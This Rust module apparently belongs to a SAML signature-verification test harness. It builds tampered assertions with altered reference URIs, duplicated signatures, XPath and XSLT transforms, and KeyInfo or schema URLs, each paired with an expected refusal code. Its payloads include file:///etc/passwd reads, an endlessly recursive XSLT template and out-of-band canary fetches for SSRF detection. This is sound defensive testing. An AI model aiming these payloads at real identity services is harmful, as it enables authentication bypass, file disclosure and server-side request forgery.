//! References, transforms and key information that lead the verifier elsewhere: to another element, or out of the house.

use super::{ASSERTION, Attack, Class, SIGNATURE, Verdict, edit, encode, with_template};
use crate::idp::response::Sign;

const EXCLUSIVE: &str = "http://www.w3.org/2001/10/xml-exc-c14n#";
const XPATH: &str = "http://www.w3.org/TR/1999/REC-xpath-19991116";
const XSLT: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";
const FILTER: &str = "http://www.w3.org/2002/06/xmldsig-filter2";

pub(super) fn attacks() -> Vec<Attack> {
    let mut attacks = references();
    attacks.extend(repeated());
    attacks.extend(transforms());
    attacks.extend(rearranged_transforms());
    attacks.extend(leading_out());
    attacks
}

/// Where the reference points, spelled in every other way.
fn references() -> Vec<Attack> {
    let class = Class::of("reference", Sign::Assertion);
    let targets = [
        ("empty", ""),
        ("hash-only", "#"),
        ("xpointer-id", "#xpointer(id('{id}'))"),
        ("xpointer-root", "#xpointer(/)"),
        ("id-without-hash", "{id}"),
        ("percent-encoded", "#%69%64"),
        ("other-element", "#{response}"),
        ("trailing-space", "#{id} "),
        ("cid", "cid:{id}"),
        ("ref-external-http", "{canary}/reference"),
        ("ref-external-fragment", "{canary}/reference#{id}"),
        ("ref-external-file", "file:///etc/passwd"),
        ("ref-external-relative", "/etc/passwd"),
        ("ref-external-scheme-relative", "//127.0.0.1/reference"),
    ];
    let attack = |(name, target): (&str, &'static str)| {
        class.tampered(name, 413, move |xml, material| {
            let (own, response) = (edit::value(xml, ASSERTION.0, "ID")?, edit::value(xml, super::RESPONSE, "ID")?);
            let target = edit::filled(target, material).replace("{id}", &own).replace("{response}", &response);
            edit::set(xml, "<ds:Reference ", "URI", Some(&target))
        })
    };
    let mut attacks: Vec<Attack> = targets.into_iter().map(attack).collect();
    attacks.push(class.tampered("missing", 413, |xml, _| edit::set(xml, "<ds:Reference ", "URI", None)));
    attacks.push(class.tampered("nothing-is-signed-but-the-empty-string", 413, |_, material| {
        // The identity provider's own signature, over the whole document instead of an element.
        let xml = with_template(&material.unsigned()?, ASSERTION.0, material.idp, |template| {
            edit::set(&template, "<ds:Reference ", "URI", Some(""))
        })?;
        material.idp.sign(xml)
    }));
    attacks
}

fn repeated() -> Vec<Attack> {
    let class = Class::of("reference", Sign::Assertion);
    let reference =
        |xml: &str| Ok::<_, anyhow::Error>(edit::piece(xml, "<ds:Reference ", "</ds:Reference>")?.to_owned());
    vec![
        class.tampered("two-references", 412, move |xml, _| edit::before(xml, "<ds:Reference ", &reference(xml)?)),
        class.tampered("a-second-reference-to-nothing", 412, move |xml, _| {
            let other = edit::set(&reference(xml)?, "<ds:Reference ", "URI", Some("#_nothing"))?;
            edit::before(xml, "</ds:SignedInfo>", &other)
        }),
        class.tampered("two-signatures", 407, |xml, _| {
            let signature = edit::piece(xml, SIGNATURE.0, SIGNATURE.1)?;
            edit::before(xml, SIGNATURE.0, signature)
        }),
        class.field("two-signatures-one-of-a-stranger", 407, |material| {
            let xml = super::sign(&material.unsigned()?, Sign::Assertion, material.idp)?;
            let other = super::sign(&material.unsigned()?, Sign::Assertion, material.stranger)?;
            Ok(encode(&edit::before(&xml, SIGNATURE.0, edit::piece(&other, SIGNATURE.0, SIGNATURE.1)?)?))
        }),
        class.tampered("manifest", 411, |xml, _| {
            let manifest = format!(
                "<ds:Object><ds:Manifest>{}</ds:Manifest></ds:Object>",
                edit::piece(xml, "<ds:Reference ", "</ds:Reference>")?
            );
            edit::before(xml, SIGNATURE.1, &manifest)
        }),
    ]
}

/// A transform in front of canonicalization decides what is digested, or does something on the way.
fn transforms() -> Vec<Attack> {
    let class = Class::of("transforms", Sign::Assertion);
    let sheet = |content: &str| {
        format!(
            "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\">\
             <xsl:template match=\"/\">{content}</xsl:template></xsl:stylesheet>"
        )
    };
    let copy = |from: &str| sheet(&format!("<xsl:copy-of select=\"document('{from}')\"/>"));
    let endless =
        "<xsl:call-template name=\"a\"/></xsl:template><xsl:template name=\"a\"><xsl:call-template name=\"a\"/>";
    let filter = "<f:XPath xmlns:f=\"http://www.w3.org/2002/06/xmldsig-filter2\" Filter=\"subtract\">\
                  //*[local-name()='Subject']</f:XPath>";
    let cases = [
        (
            "xpath-drops-subject",
            XPATH,
            "<ds:XPath>not(ancestor-or-self::*[local-name()='Subject'])</ds:XPath>".to_owned(),
        ),
        ("xpath-drops-everything", XPATH, "<ds:XPath>false()</ds:XPath>".to_owned()),
        ("filter2-subtracts-subject", FILTER, filter.to_owned()),
        ("xslt-http", XSLT, copy("{canary}/xslt")),
        ("xslt-file", XSLT, copy("file:///etc/passwd")),
        ("xslt-loop", XSLT, sheet(endless)),
        ("xslt-constant", XSLT, sheet("constant")),
        (
            "xslt-include",
            XSLT,
            sheet("").replace("<xsl:template", "<xsl:include href=\"{canary}/include\"/><xsl:template"),
        ),
        ("base64", "http://www.w3.org/2000/09/xmldsig#base64", String::new()),
        ("xpointer", "http://www.w3.org/2001/04/xmldsig-more/xptr", String::new()),
        ("decrypt", "http://www.w3.org/2002/07/decrypt#XML", String::new()),
        ("unknown", "urn:unknown", String::new()),
        ("without-algorithm", "", String::new()),
    ];
    let attack = |(name, algorithm, content): (&str, &'static str, String)| {
        class.tampered(name, 414, move |xml, material| {
            let content = edit::filled(&content, material);
            let transform = format!("<ds:Transform Algorithm=\"{algorithm}\">{content}</ds:Transform>");
            edit::replace_first(xml, "<ds:Transforms>", &format!("<ds:Transforms>{transform}"))
        })
    };
    cases.into_iter().map(attack).collect()
}

/// The known transforms in another order or number. Where the identity provider itself leaves the signature in what it
/// digests, nobody can verify that; a comment more or less makes no difference for a reference by ID.
fn rearranged_transforms() -> Vec<Attack> {
    let class = Class::of("transforms", Sign::Assertion);
    let enveloped = "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#enveloped-signature\"/>";
    let canonical = |xml: &str| {
        let start = format!("<ds:Transform Algorithm=\"{EXCLUSIVE}\">");
        Ok::<_, anyhow::Error>(edit::piece(xml, &start, "</ds:Transform>")?.to_owned())
    };
    let by_idp = |to: &'static str| {
        move |xml: &str, material: &super::Material<'_>| {
            let change = |template: String| {
                edit::replace(&template, &format!("Algorithm=\"{EXCLUSIVE}\""), &format!("Algorithm=\"{to}\""))
            };
            material.idp.sign(with_template(xml, ASSERTION.0, material.idp, change)?)
        }
    };
    let comments = by_idp("http://www.w3.org/2001/10/xml-exc-c14n#WithComments");
    vec![
        class.tampered("swapped-order", 414, move |xml, _| {
            let canonical = canonical(xml)?;
            edit::replace(xml, &format!("{enveloped}{canonical}"), &format!("{canonical}{enveloped}"))
        }),
        class.tampered("not-enveloped", 414, move |xml, _| edit::replace(xml, enveloped, "")),
        class.tampered("enveloped-twice", 414, move |xml, _| edit::replace(xml, enveloped, &enveloped.repeat(2))),
        class.tampered("none", 411, |xml, _| edit::cut(xml, "<ds:Transforms>", "</ds:Transforms>")),
        class.tampered("canonicalization-of-signedinfo", 416, |xml, _| {
            edit::set(xml, "<ds:CanonicalizationMethod ", "Algorithm", Some(XSLT))
        }),
        class.field("with-comments-by-the-idp", Verdict::Genuine, move |material| {
            Ok(encode(&comments(&material.unsigned()?, material)?))
        }),
        class.tampered("with-comments", 505, |xml, _| {
            edit::replace_first(xml, &format!("\"{EXCLUSIVE}\"/>"), &format!("\"{EXCLUSIVE}WithComments\"/>"))
        }),
    ]
}

/// What would have the service provider fetch something.
fn leading_out() -> Vec<Attack> {
    let class = Class::of("ssrf", Sign::Assertion);
    let key_info = |name: &str, verdict: Verdict, content: &'static str| {
        class.tampered(name, verdict, move |xml, material| {
            let content = edit::filled(content, material);
            edit::replace_first(xml, "<ds:KeyInfo>", &format!("<ds:KeyInfo>{content}"))
        })
    };
    let schema = "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x {canary}/schema\"";
    vec![
        key_info("retrievalmethod-http", Verdict::Refused(415), "<ds:RetrievalMethod URI=\"{canary}/key\"/>"),
        key_info("retrievalmethod-file", Verdict::Refused(415), "<ds:RetrievalMethod URI=\"file:///etc/passwd\"/>"),
        key_info(
            "keyinforeference",
            Verdict::Refused(415),
            "<x:KeyInfoReference xmlns:x=\"http://www.w3.org/2009/xmldsig11#\" URI=\"{canary}/key\"/>",
        ),
        // These are hints which nobody follows.
        key_info(
            "x509-url",
            Verdict::Genuine,
            "<ds:X509Data><x:URL xmlns:x=\"urn:x\">{canary}/crt</x:URL></ds:X509Data>",
        ),
        key_info("keyname-url", Verdict::Genuine, "<ds:KeyName>{canary}/key</ds:KeyName>"),
        class.tampered("schemalocation", Verdict::Genuine, move |xml, material| {
            let schema = edit::filled(schema, material);
            edit::replace_first(xml, "<saml2p:Status>", &format!("<saml2p:Status {schema}>"))
        }),
        class.tampered("namespace-url", Verdict::Genuine, |xml, material| {
            edit::replace_first(xml, "<saml2p:Status>", &format!("<saml2p:Status xmlns:x=\"{}/ns\">", material.canary))
        }),
    ]
}
